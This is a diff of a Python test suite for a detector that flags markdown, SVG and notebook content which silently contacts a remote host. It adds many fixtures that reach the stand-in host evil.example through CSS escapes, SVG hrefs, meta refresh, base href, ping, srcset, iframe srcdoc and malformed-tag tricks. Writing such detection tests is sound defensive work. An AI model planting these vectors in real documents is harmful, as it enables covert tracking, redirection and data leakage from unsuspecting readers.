@@ -76,11 +76,41 @@ CALLS_OUT = [
     ("a.md", f"# x\r\r[a]: {EVIL}\r\r![a]\r"),
     ("a.md", '<b style="background: url(https:\\2f\\2f evil.example/s)">'),
     ("a.md", '<b style="background: url(https:\\00002F\\00002Fevil.example/s)">'),
+    ("a.md", "<b style='background: url(\\68 ttps://evil.example/s)'>"),
     ("a.md", f"<b style='background: url(\\ffffff \\110000 {EVIL})'>"),
     ("a.md", f"<style>\n@import url({EVIL});</style>"),
     ("a.md", "İ" * 80 + f"<STYLE>@import '{EVIL}';</STYLE>"),
     ("a.md", "<p style='background:\\75rl(https:\\/\\/evil.example)'>x</p>"),
     ("a.md", f"<p style=\"background-image:image-set('{EVIL}' 1x)\">x</p>"),
+    *(
+        (name, content.replace("EVIL", EVIL))
+        for name in ("a.md", "a.svg")
+        for content in (
+            "<image href='EVIL' width='1'/>", "<svg:image xlink:href='EVIL'/>", "<use href=EVIL#a />", "<feImage xlink:href='EVIL'/>", "<FEIMAGE HREF='EVIL'/>",
+            "<image\n  href =\n 'EVIL'/>", "<rect fill='url(EVIL#a)'/>", "<rect style='fill: url(EVIL)'/>", "<set attributeName='href' to='EVIL'/>",
+            "<animate attributeName='href' values='a;EVIL'/>", "<style>@import 'EVIL';</style>", "<style>p { background: url(//evil.example/a) }</style>",
+            "<script href='EVIL'/>", "<script xlink:href='EVIL'/>", "<foreignObject><iframe src='EVIL'/></foreignObject>", "<a xlink:href='x'><image href='EVIL'/></a>",
+            "<image xml:base='EVIL' href='a.png'/>", "<image href='ht&#9;tps://evil.example/s'/>",
+        )
+    ),
+    *(
+        ("a.md", content.replace("EVIL", EVIL))
+        for content in (
+            "<meta http-equiv=refresh content='0;url=EVIL'>", '<META CONTENT="0; URL=&apos;EVIL&apos;" HTTP-EQUIV="refresh">', "<meta http-equiv='refresh' content='0;//evil.example/s'>",
+            "<meta content='0;url=ht&#9;tps://evil.example' http-equiv=refresh>", "<meta http-equiv=refresh content=0;url=https:evil.example>",
+            "<a href='b.md' ping='EVIL'>x</a>", "<a ping=EVIL href=b.md>x</a>", "<a href='b.md' PING='a EVIL'>x</a>", "<area ping='EVIL'>", "<a href=x style='background:url(EVIL)'>x</a>",
+            "<base href='EVIL'>", "<base target=x href=//evil.example/>", "<BASE HREF=EVIL>", "<base\nhref='EVIL'>", "<base/href='EVIL'>",
+            "<link rel=prefetch href='EVIL'>", "<link rel=preconnect href=EVIL>", "<link href='EVIL' rel='dns-prefetch'>", "<link rel=stylesheet href='EVIL'>", "<link rel=preload imagesrcset='EVIL 2x'>",
+            "<img srcset='EVIL 2x'>", "<img srcset='a.png 1x,EVIL 2x'>", "<img src=a.png srcset=EVIL>", "<source srcset='a.png, //evil.example/s 2x'>", "<img/src='EVIL'>",
+            "<video poster='EVIL'>", "<video src=EVIL>", "<audio src='EVIL'>", "<track src='EVIL'>", "<video><source src='EVIL'></video>",
+            "<object data='EVIL'>", "<object><param name=movie value='EVIL'></object>", "<object codebase='EVIL'>", "<applet archive='EVIL'>", "<embed src=EVIL>",
+            "<iframe src='EVIL'>", "<iframe srcdoc=\"<img src='EVIL'>\">", "<iframe srcdoc='&lt;img src=EVIL&gt;'>", "<iframe srcdoc='&lt;img src=&amp;#104;ttps://evil.example&gt;'>",
+            "<frame longdesc='EVIL'>", "<body background='EVIL'>", "<td background=EVIL>", "<html manifest='EVIL'>", "<input type=image src='EVIL'>",
+            "<a href='`<image href=EVIL>`'>", "<x \" ><image href=EVIL><x \" >", "<a <image href=EVIL>", "<a title='>' ><image href=EVIL></a>", "<a href=x<image href=EVIL>",
+            "<img alt='a > b' src='EVIL'>", "<img alt=a\"b src='EVIL'>", "<p title='<image href=EVIL>'>", "<img src={'EVIL'} />",
+        )
+    ),
+    ("a.ipynb", json.dumps({"cells": [{"cell_type": "markdown", "source": f"<base href='{EVIL}'>"}]})),
     ("package.json", '{"packageManager": "yarn@https://evil.example/y.js"}'),
     ("a.ipynb", json.dumps({"cells": [CELL]})),
     ("a.ipynb", json.dumps({"cells": [OUTPUT]})),
@@ -117,6 +147,26 @@ STAYS = [
     ("composer.json", '{"scripts": {"test": "phpunit"}}'),
     ("package.json", '{"packageManager": "pnpm@9.1.0+sha512.abc"}'),
     ("a.md", f"see {EVIL}\n\n<style>p { '{' } color: red { '}' }</style>\n"),
+    *(
+        (name, content.replace("EVIL", EVIL))
+        for name in ("a.md", "a.svg")
+        for content in (
+            "<a href='EVIL'>x</a>", "<A HREF=EVIL target=_blank>x</A>", "<a xlink:href='EVIL'><text>x</text></a>", "<a\nclass='b'\nhref='EVIL' >x</a>", "<svg:a xlink:href='EVIL'/>",
+            "<img src='docs//a.png' alt='see EVIL'>", "<image href='#a' width='1'/>", "<image href='data:image/png;base64,AAA//BBB='/>",
+            "<svg xmlns='http://www.w3.org/2000/svg' xmlns:inkscape='http://www.inkscape.org/namespaces/inkscape'/>", "<rdf:type rdf:resource='http://purl.org/dc/dcmitype/StillImage'/>",
+            "<div data-url='EVIL' title='EVIL' aria-label='EVIL'>x</div>", "<path d='M0 0L1 1' fill='url(#a)'/>", "<!-- EVIL -->",
+        )
+    ),
+    *(
+        ("a.md", content.replace("EVIL", EVIL))
+        for content in (
+            "<form action='EVIL'><button formaction='EVIL'>x</button></form>", "<area href='EVIL'>", "<blockquote cite='EVIL'>x</blockquote>", "<p itemtype='EVIL'>x</p>", "<EVIL>",
+            "<details>\n\nDATABASE_URL=EVIL\n\n</details>", "<br> src = 'EVIL'", "`curl --url=EVIL`", "a < b and src=EVIL", "<img src='https://github.com/user-attachments/assets/1'>",
+            "<picture><source srcset='https://img.shields.io/a.svg 1x, https://img.shields.io/b.svg 2x'></picture>", "<p align=center><a href='EVIL'><img src='docs/a.png'></a></p>",
+            "<img src=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'/%3E\">",
+        )
+    ),
+    ("a.svg", f"<svg><style>a {{ fill: red }}</style><a href='{EVIL}'/><metadata rdf:resource='{EVIL}'/></svg>"),
     ("other.json", '{"scripts": {"postinstall": "./x"}}'),
 ]  # fmt: skip
 
@@ -130,6 +180,7 @@ def test_effects_of_a_text_are_found(path: str, content: str) -> None:
 
 @pytest.mark.parametrize(("path", "content"), STAYS)
 def test_a_text_that_stays_here_has_no_effects(path: str, content: str) -> None:
+    """A23.4: links that need a click among others."""
     assert not find_effects(path, content)
 
 
@@ -170,7 +221,7 @@ def test_a_second_address_is_new_and_a_removed_one_is_not() -> None:
 
 @given(st.text(alphabet='{}[]":,$schema/\\u0024 https:evil.example!()<>#&;\n', max_size=200))
 def test_any_text_is_read(content: str) -> None:
-    for name in ("a.json", "a.yml", "a.toml", "a.xml", "a.md", "a.ipynb", "package.json"):
+    for name in ("a.json", "a.yml", "a.toml", "a.xml", "a.md", "a.svg", "a.ipynb", "package.json"):
         find_effects(name, content)
 
 
@@ -183,12 +234,30 @@ def test_every_spelling_of_another_host_is_remote(start: str) -> None:
 
 @pytest.mark.parametrize("size", [20_000])
 @pytest.mark.parametrize(
-    "piece", ["![", "[", "](", "<a ", "<!--", '"', "{", "\\", "# $schema", "<!DOCTYPE a ", " #", "<style //a"]
+    "piece",
+    [
+        "![",
+        "[",
+        "](",
+        "<a ",
+        "<!--",
+        '"',
+        "{",
+        "\\",
+        "# $schema",
+        "<!DOCTYPE a ",
+        " #",
+        "<style //a",
+        "<a b='",
+        "<a b=\"'",
+        "<b c= ",
+        "<a b=https:",
+    ],
 )
 def test_reading_takes_linear_time(piece: str, size: int) -> None:
     import time
 
     began = time.process_time()
-    for name in ("a.json", "a.yml", "a.toml", "a.xml", "a.md", "package.json"):
+    for name in ("a.json", "a.yml", "a.toml", "a.xml", "a.md", "a.svg", "package.json"):
         find_effects(name, ("{" if name.endswith("json") else "") + '"$schema"' + piece * size)
     assert time.process_time() - began < 5
